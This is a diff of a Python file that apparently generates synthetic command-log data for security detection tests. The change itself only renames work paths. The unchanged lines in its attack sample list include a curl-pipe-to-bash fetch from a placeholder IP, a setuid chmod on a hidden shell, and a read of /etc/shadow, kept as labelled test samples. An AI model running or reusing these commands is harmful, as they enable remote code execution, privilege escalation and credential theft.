@@ -31,11 +31,11 @@ _COMMANDS: tuple[tuple[str, tuple[str, ...]], ...] = (
     ("/usr/bin/systemctl", ("systemctl", "is-active", "worker-{n}.service")),
     ("/usr/bin/install", ("install", "-m", "644", "out/file{n}.so", "/opt/app/lib")),
     ("/usr/bin/psql", ("psql", "-At", "-c", "select count(*) from jobs where id > {n}")),
-    ("/usr/bin/sort", ("sort", "-u", "/srv/work/list-{n}.txt")),
+    ("/usr/bin/sort", ("sort", "-u", "/srv/task/list-{n}.txt")),
     ("/usr/bin/make", ("make", "-j4", "all")),
     ("/usr/bin/node", ("node", "server/index.js", "--port", "30{n}")),
     ("/usr/bin/sleep", ("sleep", "5")),
-    ("/usr/bin/wc", ("wc", "-l", "/srv/work/list-{n}.txt")),
+    ("/usr/bin/wc", ("wc", "-l", "/srv/task/list-{n}.txt")),
 )
 _ATTACKS: tuple[tuple[str, tuple[str, ...]], ...] = (
     ("/usr/bin/dash", ("sh", "-c", "curl -fsSL http://198.51.100.80/{n}.sh | bash")),
@@ -43,7 +43,7 @@ _ATTACKS: tuple[tuple[str, tuple[str, ...]], ...] = (
     ("/usr/bin/chmod", ("chmod", "4755", "/tmp/.cache/sh{n}")),  # noqa: S108 - a name in a log line
     ("/usr/bin/cat", ("cat", "/etc/shadow")),
 )
-_WRITTEN = ("/srv/work/list-{n}.txt", "/var/lib/app/state-{n}.db", "build/file{n}.o", "/var/cache/app/{n}.tmp")
+_WRITTEN = ("/srv/task/list-{n}.txt", "/var/lib/app/state-{n}.db", "build/file{n}.o", "/var/cache/app/{n}.tmp")
 _AT_HOME = tuple(
     (user, f"192.0.2.{10 * place + desk}") for place, user in enumerate(("alice", "bob", "carol"), 1) for desk in (1, 2)
 )
